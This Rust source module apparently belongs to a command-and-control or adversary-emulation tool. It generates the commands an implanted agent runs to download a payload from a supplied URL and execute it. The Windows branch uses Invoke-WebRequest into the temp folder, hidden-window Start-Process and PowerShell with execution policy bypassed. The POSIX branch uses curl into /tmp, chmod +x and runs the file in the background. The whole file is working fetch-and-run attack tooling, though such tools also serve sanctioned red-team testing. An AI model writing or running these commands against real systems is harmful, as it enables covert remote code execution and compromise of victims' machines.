//! Retrieval-and-execution command generation
//!
//! Pure functions: given a platform, a file type and where to fetch the
//! artifact from, produce the shell command an agent runs.

use crate::catalog::Platform;

/// Executor an agent of this platform conventionally offers
pub fn preferred_executor(platform: Platform) -> &'static str {
    if platform.is_windows() {
        "powershell"
    } else {
        "bash"
    }
}

/// Pick the executor to run a command with.
///
/// Prefers the platform shell when the agent advertises it, then the
/// agent's first executor, then the platform shell anyway.
pub fn select_executor(platform: Platform, available: &[String]) -> String {
    let preferred = preferred_executor(platform);
    if available.iter().any(|e| e == preferred) {
        return preferred.to_string();
    }
    available
        .first()
        .cloned()
        .unwrap_or_else(|| preferred.to_string())
}

fn ps_quote(value: &str) -> String {
    format!("'{}'", value.replace('\'', "''"))
}

/// Payload ids end up in file names; path separators are not allowed there
fn file_name(payload_id: &str) -> String {
    payload_id.replace(['/', '\\'], "_")
}

fn windows_command(file_type: &str, payload_id: &str, download_url: &str) -> String {
    let mut out = format!(
        "$p=$env:TEMP+{};Invoke-WebRequest -UseBasicParsing -Uri {} -OutFile $p;",
        ps_quote(&format!("\\{}", file_name(payload_id))),
        ps_quote(download_url)
    );
    out.push_str(match file_type {
        "exe" => "Start-Process -FilePath $p -WindowStyle Hidden;",
        "ps1" => "powershell -ExecutionPolicy Bypass -File $p;",
        "py" => "python $p;",
        _ => "Write-Host 'Downloaded payload';",
    });
    out
}

fn posix_command(file_type: &str, payload_id: &str, download_url: &str) -> String {
    let path = format!("/tmp/{}", file_name(payload_id));
    let mut out = format!(
        "p={}; curl -fsSL {} -o $p; chmod +x $p; ",
        shell_words::quote(&path),
        shell_words::quote(download_url)
    );
    out.push_str(match file_type {
        "sh" => "bash $p;",
        "py" => "python3 $p;",
        _ => "$p &",
    });
    out
}

/// Build the command that downloads and runs a payload on an agent
pub fn build_command(
    platform: Platform,
    file_type: &str,
    payload_id: &str,
    download_url: &str,
) -> String {
    let file_type = file_type.trim().to_lowercase();
    if platform.is_windows() {
        windows_command(&file_type, payload_id, download_url)
    } else {
        posix_command(&file_type, payload_id, download_url)
    }
}
